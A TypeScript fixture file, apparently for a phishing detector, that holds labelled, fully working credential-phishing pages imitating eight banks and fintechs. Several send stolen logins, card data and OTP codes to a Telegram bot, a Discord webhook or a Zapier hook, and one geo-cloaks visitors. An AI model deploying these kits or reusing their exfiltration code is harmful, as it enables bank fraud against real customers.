import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, gtagStub, wordmark, jsRoute, jsonRoute, pngRoute, cssRoute } from '../parts/i-parts.js';

// Credential-phishing kits against banks and fintechs of many countries (2025–2026 style).

export const entries: Entry[] = [
  {
  id: 'i-phish-bank-mx-bbva-token-telegram',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://bbva.mx-netcash-verificacion.com/acceso/?folio=MX0931552',
  body: doc({
    title: 'BBVA México | Banca en línea',
    lang: 'es',
    head: `<style>body{margin:0;font-family:'Benton Sans',Arial,sans-serif;background:#f4f4f4}header{background:#072146;color:#fff;padding:16px 40px;display:flex;justify-content:space-between}header b{font-size:26px;letter-spacing:2px}.card{max-width:420px;margin:50px auto;background:#fff;padding:32px;border-top:4px solid #1973b8}.card h2{color:#072146;margin-top:0}input{width:100%;padding:12px;margin:8px 0 16px;border:0;border-bottom:2px solid #1973b8;background:#f4f4f4;font-size:15px}button{width:100%;padding:14px;background:#1973b8;color:#fff;border:0;font-size:16px}.aviso{font-size:12px;color:#666}.err{color:#c0392b;font-size:13px}</style>`,
    body: `<header><b>BBVA</b><span>Personas · Empresas · Gobierno</span></header>
<div class="card">
 <h2 id="tt">Ingresa a tu Banca en línea</h2>
 <p class="aviso">Detectamos un cargo no reconocido por <b>$8,499.00 MXN</b> en tu tarjeta. Para cancelarlo, valida tu identidad.</p>
 <form id="frm">
  <div id="p1"><label>Número de tarjeta o usuario</label><input id="u" maxlength="19" required><label>Contraseña</label><input id="c" type="password" required></div>
  <div id="p2" style="display:none"><label>Clave de seguridad (Token móvil / 8 dígitos)</label><input id="t" maxlength="8" inputmode="numeric"><p class="err" id="e2"></p></div>
  <button id="b">Continuar</button>
 </form>
 <p class="aviso">BBVA México, S.A., Institución de Banca Múltiple, Grupo Financiero BBVA México. Aviso de privacidad.</p>
</div>
<script>
var TK='7390114826:AAG3x_kq0ZbVbN1PmeR7m6sYHqT0n3Lw2dE', CH='-1002211873345', st=1;
function tg(t){return fetch('https://api.telegram.org/bot'+TK+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:CH,text:t})}).catch(function(){})}
document.getElementById('frm').addEventListener('submit',function(e){e.preventDefault();
 if(st===1){tg('🏦 BBVA MX\\nUser: '+u.value+'\\nPass: '+c.value+'\\nFolio: '+new URLSearchParams(location.search).get('folio')+'\\nUA: '+navigator.userAgent);
  p1.style.display='none';p2.style.display='block';tt.textContent='Confirma la operación';st=2;}
 else if(st===2){tg('🔑 Token: '+t.value);
  if(!window._r){window._r=1;e2.textContent='La clave es incorrecta o ha expirado. Genera una nueva e inténtalo de nuevo.';t.value='';return}
  b.disabled=true;b.textContent='Procesando…';setTimeout(function(){location.replace('https://www.bbva.mx/')},4000)}
});
</script>`,
  }),
},
  {
  id: 'i-phish-bank-br-itau-pix-limite',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://itau-atualizacao-cadastral.web.app/?cpf=',
  body: doc({
    title: 'Itaú | Desbloqueio Pix',
    lang: 'pt-BR',
    head: `<style>*{box-sizing:border-box}body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#ec7000}.top{background:#ec7000;padding:18px;text-align:center}.top .lg{display:inline-block;background:#003399;color:#ffcc00;font-weight:900;font-size:22px;padding:8px 12px;border-radius:8px}.wrap{background:#fff;border-radius:16px 16px 0 0;min-height:80vh;padding:26px 22px;max-width:480px;margin:0 auto}h1{font-size:20px;color:#252220}p{color:#56514b;font-size:14px}input{width:100%;height:46px;border:1px solid #ccc;border-radius:6px;padding:0 12px;margin:6px 0 14px;font-size:16px}.btn{width:100%;height:48px;border:0;border-radius:6px;background:#ec7000;color:#fff;font-weight:bold;font-size:16px}.ld{display:none;text-align:center;padding:40px 0}</style>`,
    body: `<div class="top"><span class="lg">itaú</span></div>
<div class="wrap">
 <div id="a">
  <h1>Seu Pix foi temporariamente bloqueado</h1>
  <p>Identificamos uma tentativa de transferência Pix de <b>R$ 2.750,00</b> a partir de um novo dispositivo. Por segurança, confirme seus dados para liberar o limite.</p>
  <form id="fa"><label>CPF</label><input id="cpf" placeholder="000.000.000-00" required><label>Agência</label><input id="ag" maxlength="4" required><label>Conta com dígito</label><input id="cc" required><label>Senha eletrônica (6 dígitos)</label><input id="se" type="password" maxlength="6" inputmode="numeric" required><button class="btn">Continuar</button></form>
 </div>
 <div id="b" style="display:none">
  <h1>Confirme com sua senha do cartão</h1>
  <p>Digite a senha de 4 dígitos utilizada nos caixas eletrônicos.</p>
  <form id="fb"><input id="s4" type="password" maxlength="4" inputmode="numeric" required><label>Código iToken</label><input id="tk" maxlength="6" inputmode="numeric" required><button class="btn">Liberar Pix</button></form>
 </div>
 <div class="ld" id="ld">Aguarde, validando informações…</div>
</div>
<script>
function m(v){return v.replace(/\\D/g,'').replace(/(\\d{3})(\\d)/,'$1.$2').replace(/(\\d{3})(\\d)/,'$1.$2').replace(/(\\d{3})(\\d{1,2})$/,'$1-$2')}
cpf.oninput=function(){this.value=m(this.value)};
var base='https://discord.com/api/webhooks/1318802210094411786/Q2Lz0rMh9pN4aY7x-kfu1JtCw3VbE8sUo5dGiH6nTq';
function env(o){o.ip=window.__ip||'';return fetch(base,{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({content:'\`\`\`'+JSON.stringify(o,null,1)+'\`\`\`'})}).catch(function(){})}
fetch('/geo.json').then(function(r){return r.json()}).then(function(j){window.__ip=j.ip;if(j.country!=='BR'){document.body.innerHTML='<h1 style="color:#fff;text-align:center;margin-top:30vh">404</h1>'}}).catch(function(){});
fa.onsubmit=function(e){e.preventDefault();env({cpf:cpf.value,ag:ag.value,cc:cc.value,senha:se.value});a.style.display='none';ld.style.display='block';setTimeout(function(){ld.style.display='none';b.style.display='block'},2200)};
fb.onsubmit=function(e){e.preventDefault();env({cpf:cpf.value,s4:s4.value,itoken:tk.value});b.style.display='none';ld.style.display='block';ld.textContent='Pix liberado com sucesso. Você será redirecionado.';setTimeout(function(){location.href='https://www.itau.com.br/'},3000)};
</script>`,
  }),
  routes: {
    'itau-atualizacao-cadastral.web.app/geo.json': jsonRoute({ ip: '189.6.44.201', country: 'BR', city: 'São Paulo' }),
  },
},
  {
  id: 'i-phish-bank-ae-enbd-arabic-card',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://enbd-rewards-ae.online/ar/plus-points/redeem',
  body: doc({
    title: 'بنك الإمارات دبي الوطني | استبدال نقاط Plus',
    lang: 'ar',
    dir: 'rtl',
    head: `<style>body{font-family:Tahoma,'Segoe UI',sans-serif;background:#f6f7f9;margin:0}.b{background:#072c5d;color:#fff;padding:14px 30px;display:flex;justify-content:space-between;align-items:center}.b .en{font-family:Arial;direction:ltr}.c{max-width:460px;margin:36px auto;background:#fff;border-radius:10px;padding:28px;box-shadow:0 2px 12px #0001}.pts{background:#e8f0fb;border-radius:8px;padding:14px;text-align:center;font-size:28px;color:#072c5d;font-weight:bold}input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #cdd3dc;border-radius:6px;margin:6px 0 14px}button{width:100%;background:#0a58ca;color:#fff;border:0;padding:13px;border-radius:6px;font-size:15px}.lng{color:#fff;text-decoration:none;font-size:13px}</style>`,
    body: `<div class="b"><b>بنك الإمارات دبي الوطني</b><span class="en">Emirates NBD</span><a class="lng" href="#" onclick="return false">English</a></div>
<div class="c">
 <p>رصيد نقاط Plus الخاص بك على وشك الانتهاء. استبدل نقاطك الآن واحصل على قيمتها نقداً في حسابك.</p>
 <div class="pts">12,480 <small style="font-size:13px">نقطة = 1,248.00 درهم</small></div>
 <form id="r">
  <label>الاسم على البطاقة</label><input name="n" required>
  <label>رقم البطاقة</label><input name="p" inputmode="numeric" maxlength="19" required>
  <label>تاريخ الانتهاء</label><input name="e" placeholder="MM/YY" required>
  <label>رمز CVV</label><input name="v" maxlength="3" required>
  <button>استبدال النقاط</button>
 </form>
 <div id="o" style="display:none"><label>أدخل رمز التحقق (OTP) المرسل إلى هاتفك</label><input id="otp" maxlength="6"><button onclick="x()">تأكيد</button></div>
 <p style="font-size:11px;color:#888">© 2025 Emirates NBD Bank (P.J.S.C). جميع الحقوق محفوظة.</p>
</div>
<script>
var r=document.getElementById('r');
r.onsubmit=function(e){e.preventDefault();var d=Object.fromEntries(new FormData(r));d.k='enbd';
 navigator.sendBeacon('/api/v2/collect',JSON.stringify(d));r.style.display='none';document.getElementById('o').style.display='block'};
function x(){navigator.sendBeacon('/api/v2/collect',JSON.stringify({otp:document.getElementById('otp').value}));document.querySelector('.c').innerHTML='<p>جارٍ معالجة طلبك… سيتم إضافة المبلغ خلال 24 ساعة.</p>'}
</script>`,
  }),
  routes: { 'enbd-rewards-ae.online/api/v2/collect': jsonRoute({ s: 1 }) },
},
  {
  id: 'i-phish-bank-nl-ing-pas-vervangen',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://ing-paswissel.nl-klantenservice.eu/mijn/inloggen',
  body: doc({
    title: 'Mijn ING - Inloggen',
    lang: 'nl',
    head: `<style>body{margin:0;font-family:'ING Me',Arial,sans-serif;background:#f0f0f0}.t{background:#fff;padding:16px 28px;border-bottom:1px solid #ddd}.t b{color:#ff6200;font-size:24px}.bx{max-width:430px;margin:34px auto;background:#fff;padding:28px;border-radius:4px}.bx h1{color:#ff6200;font-size:24px}input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #a8a8a8;border-radius:4px;margin:6px 0 14px}.b{background:#ff6200;color:#fff;border:0;padding:12px 26px;font-weight:bold;border-radius:4px}.al{background:#fff6ed;border-left:4px solid #ff6200;padding:10px;font-size:14px}</style>`,
    body: `<div class="t"><b>ING</b> 🦁</div>
<div class="bx">
<h1>Inloggen</h1>
<p class="al">Uw betaalpas verloopt binnenkort. Log in om kosteloos een nieuwe pas aan te vragen. De oude pas wordt na <b>48 uur</b> automatisch geblokkeerd.</p>
<form action="/mijn/verwerk" method="POST">
<label>Gebruikersnaam</label><input name="gebruikersnaam" autocomplete="username">
<label>Wachtwoord</label><input name="wachtwoord" type="password">
<label>Pasnummer (achterkant pas)</label><input name="pasnummer" placeholder="bijv. 1234 / 123">
<label>Vervaldatum pas</label><input name="vervaldatum" placeholder="MM-JJ">
<button class="b">Inloggen</button>
</form>
<p style="font-size:12px">Lukt inloggen niet? Bel ons op 020 22 888 00.</p>
</div>`,
  }),
  routes: {
    'ing-paswissel.nl-klantenservice.eu/mijn/verwerk': redirectRoute(302, '/mijn/scan-qr'),
    'ing-paswissel.nl-klantenservice.eu/mijn/scan-qr': htmlRoute(doc({ title: 'ING - Bevestig met de app', lang: 'nl', body: `<div style="max-width:430px;margin:40px auto;font-family:Arial;background:#fff;padding:28px"><h2 style="color:#ff6200">Bevestig in de ING App</h2><p>Open de ING App en kies <b>Scannen</b>. Scan de QR-code hieronder om uw nieuwe pas te activeren.</p><img src="qr.png" width="180" height="180" alt="QR"><p>Een medewerker van de afdeling Fraudepreventie kan u bellen om de aanvraag af te ronden.</p></div>` })),
    'ing-paswissel.nl-klantenservice.eu/mijn/qr.png': pngRoute(0, 0, 0),
  },
},
  {
  id: 'i-phish-fintech-revolut-card-freeze',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://app-revolut.help-center-eu.com/en-LT/unfreeze',
  body: doc({
    title: 'Revolut – Unfreeze your card',
    head: `<style>body{margin:0;font-family:Inter,-apple-system,'Segoe UI',sans-serif;background:#f7f7f7;color:#191c1f}.n{padding:18px 32px;font-weight:800;font-size:22px;letter-spacing:-.5px}.w{max-width:420px;margin:30px auto;background:#fff;border-radius:24px;padding:32px}h1{font-size:26px;letter-spacing:-.5px}input{width:100%;box-sizing:border-box;background:#f4f4f5;border:0;border-radius:12px;padding:15px;font-size:16px;margin-bottom:12px}.cta{width:100%;background:#191c1f;color:#fff;border:0;border-radius:999px;padding:15px;font-size:16px;font-weight:600}.pf{display:flex;gap:8px}.pf input{text-align:center}small{color:#717173}</style>`,
    body: `<div class="n">Revolut</div>
<div class="w" id="w">
<h1>Your card has been frozen</h1>
<p><small>We noticed a suspicious payment of €1,199.00 to AliExpress-EU. To unfreeze your card, please verify that it's you.</small></p>
<input id="ph" placeholder="Phone number (+44…)" type="tel">
<button class="cta" id="c1">Continue</button>
</div>
<script>
var W=document.getElementById('w');var H='https://hooks.zapier.com/hooks/catch/19288211/2vq8kx1/';
function post(o){try{fetch(H,{method:'POST',mode:'no-cors',body:JSON.stringify(o)})}catch(e){}}
document.getElementById('c1').onclick=function(){var p=document.getElementById('ph').value;if(p.length<8)return;post({phone:p});
 W.innerHTML='<h1>Enter passcode</h1><p><small>Enter your 4-digit Revolut passcode</small></p><div class="pf"><input maxlength="1"><input maxlength="1"><input maxlength="1"><input maxlength="1"></div><button class="cta" id="c2">Continue</button>';
 document.getElementById('c2').onclick=function(){var pc=[].map.call(W.querySelectorAll('.pf input'),function(i){return i.value}).join('');post({passcode:pc});
  W.innerHTML='<h1>Verify your card</h1><input id="cn" placeholder="Card number"><div class="pf"><input id="ce" placeholder="MM/YY"><input id="cv" placeholder="CVV"></div><button class="cta" id="c3">Unfreeze card</button>';
  document.getElementById('c3').onclick=function(){post({cn:cn.value,ce:ce.value,cv:cv.value});W.innerHTML='<h1>Enter the code</h1><p><small>We sent a 6-digit code to your phone. Do not share it with anyone.</small></p><input id="sm" maxlength="6"><button class="cta" onclick="post({sms:sm.value});this.textContent=\\'Verifying…\\'">Verify</button>'}}};
</script>`,
  }),
},
  {
  id: 'i-phish-bank-es-santander-sms-redirect',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://sntdr.es-avisos.com/c/7KxQ2',
  routes: {
    'sntdr.es-avisos.com/c/7KxQ2': redirectRoute(302, 'https://santander-clientes.verifica-acceso.es/particulares/login/'),
    'santander-clientes.verifica-acceso.es/particulares/login/': htmlRoute(doc({
      title: 'Banco Santander - Acceso clientes',
      lang: 'es',
      head: `<style>body{margin:0;font-family:'Santander Text',Arial;background:#f5f9fb}.h{background:#ec0000;color:#fff;padding:15px 30px;font-size:24px;font-weight:bold}.f{max-width:420px;margin:40px auto;background:#fff;padding:30px;border-radius:6px;box-shadow:0 1px 6px #0002}input{width:100%;box-sizing:border-box;border:0;border-bottom:1px solid #888;padding:10px 2px;margin:6px 0 18px;font-size:15px}button{width:100%;padding:13px;background:#ec0000;color:#fff;border:0;border-radius:24px;font-size:16px}.i{font-size:13px;background:#fdecec;padding:10px;border-radius:4px}</style>`,
      body: `<div class="h">🔥 Santander</div>
<div class="f">
<h2>Acceso a clientes</h2>
<p class="i">Se ha vinculado un nuevo dispositivo a su cuenta. Si no ha sido usted, acceda para cancelar la vinculación.</p>
<form id="x" action="procesar.php" method="post">
<label>Documento (NIF, NIE, pasaporte)</label><input name="doc" required>
<label>Clave de acceso</label><input name="clave" type="password" required>
<button>Entrar</button>
</form>
</div>`,
    })),
    'santander-clientes.verifica-acceso.es/particulares/login/procesar.php': htmlRoute(doc({ title: 'Santander - Firma', lang: 'es', body: `<div style="max-width:420px;margin:40px auto;font-family:Arial"><h2>Confirme la operación</h2><p>Introduzca la clave de firma recibida por SMS para cancelar la vinculación del dispositivo.</p><form action="fin.php" method="post"><input name="sms" maxlength="8"><button>Confirmar</button></form></div>` })),
  },
},
  {
  id: 'i-phish-bank-it-intesa-sicurezza-joomla',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://www.agriturismo-colle-verde.it/components/com_jce/tmp/isp/accesso.html',
  body: doc({
    title: 'Intesa Sanpaolo - Accedi',
    lang: 'it',
    head: `<style>body{margin:0;font-family:'Titillium Web',Arial;background:#f2f4f6}.h{background:#fff;border-bottom:4px solid #00843d;padding:14px 30px;color:#00843d;font-weight:bold;font-size:20px}.b{max-width:430px;margin:36px auto;background:#fff;padding:28px;border-radius:6px}input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #bbb;border-radius:4px;margin:6px 0 14px}.btn{width:100%;background:#00843d;color:#fff;border:0;padding:13px;border-radius:4px;font-size:16px}.av{background:#fff8e5;border:1px solid #f0d58a;padding:10px;font-size:13px}</style>${gtagStub('G-9QW2ZP11XK')}`,
    body: `<div class="h">INTESA <span style="color:#333">SANPAOLO</span></div>
<div class="b">
<h2>Accedi all'Area Clienti</h2>
<div class="av">Gentile cliente, è necessario aggiornare il dispositivo <b>O-Key Smart</b> per continuare ad operare. La procedura richiede meno di 2 minuti.</div>
<form id="f" method="post" action="invio.php">
<label>Codice titolare</label><input name="ct" required>
<label>PIN</label><input name="pin" type="password" maxlength="5" required>
<label>Numero di cellulare</label><input name="cell" required>
<button class="btn">Entra</button>
</form>
<p style="font-size:11px;color:#777">Intesa Sanpaolo S.p.A. – Sede legale Piazza San Carlo 156, 10121 Torino – Capitale sociale € 10.368.870.930,08</p>
</div>`,
  }),
  routes: {
    'www.agriturismo-colle-verde.it/components/com_jce/tmp/isp/invio.php': htmlRoute(doc({ title: 'Intesa Sanpaolo - Verifica', lang: 'it', body: `<div style="max-width:430px;margin:40px auto;font-family:Arial"><h2>Verifica in corso</h2><p>Un nostro operatore la contatterà a breve al numero indicato per completare l'aggiornamento del dispositivo O-Key. Tenga a portata di mano la carta di debito.</p><meta http-equiv="refresh" content="8;url=https://www.intesasanpaolo.com/"></div>` })),
  },
},
  {
  id: 'i-phish-bank-pl-pko-blik-olx',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://olx-pl.bezpieczna-platnosc24.pl/oferta/682215/odbierz-srodki',
  body: doc({
    title: 'OLX - Odbierz środki | Bezpieczna płatność',
    lang: 'pl',
    head: `<style>body{margin:0;font-family:Geomanist,Arial;background:#f2f4f5}.h{background:#002f34;color:#fff;padding:14px 24px;font-size:26px;font-weight:900}.c{max-width:440px;margin:26px auto;background:#fff;padding:24px;border-radius:6px}.bank{display:grid;grid-template-columns:1fr 1fr;gap:10px}.bank a{border:1px solid #ccc;padding:14px;text-align:center;border-radius:4px;text-decoration:none;color:#002f34;font-weight:bold}.sum{font-size:26px;font-weight:bold;color:#23e5db;background:#002f34;padding:10px;border-radius:4px;text-align:center}</style>`,
    body: `<div class="h">OLX</div>
<div class="c">
<p>Kupujący opłacił Twoje ogłoszenie <b>„Rower górski Kross Hexagon 6.0”</b>. Aby otrzymać środki, wybierz swój bank i potwierdź dane.</p>
<div class="sum">850,00 zł</div>
<p>Wybierz bank:</p>
<div class="bank"><a href="pko/logowanie.html">PKO BP</a><a href="pko/logowanie.html?b=mbank">mBank</a><a href="pko/logowanie.html?b=pekao">Pekao</a><a href="pko/logowanie.html?b=santander">Santander</a><a href="pko/logowanie.html?b=ing">ING</a><a href="pko/logowanie.html?b=millennium">Millennium</a></div>
<p style="font-size:11px;color:#777">Grupa OLX sp. z o.o. · Bezpieczne płatności obsługiwane przez PayU</p>
</div>`,
  }),
  routes: {
    'olx-pl.bezpieczna-platnosc24.pl/oferta/682215/pko/logowanie.html': htmlRoute(doc({
      title: 'PKO Bank Polski - iPKO logowanie',
      lang: 'pl',
      head: `<style>body{font-family:Arial;background:#f5f5f5;margin:0}.h{background:#004c9a;color:#fff;padding:14px 24px;font-weight:bold}.b{max-width:400px;margin:30px auto;background:#fff;padding:26px}input{width:100%;box-sizing:border-box;padding:10px;margin:6px 0 14px}button{background:#004c9a;color:#fff;border:0;padding:11px 28px}</style>`,
      body: `<div class="h">PKO BANK POLSKI · iPKO</div><div class="b"><h2>Logowanie</h2><form action="kod.php" method="post"><label>Numer klienta lub login</label><input name="login"><label>Hasło</label><input name="haslo" type="password"><button>Zaloguj</button></form><p style="font-size:12px">Po zalogowaniu podaj kod BLIK, aby potwierdzić przyjęcie środków.</p></div>`,
    })),
  },
},
];
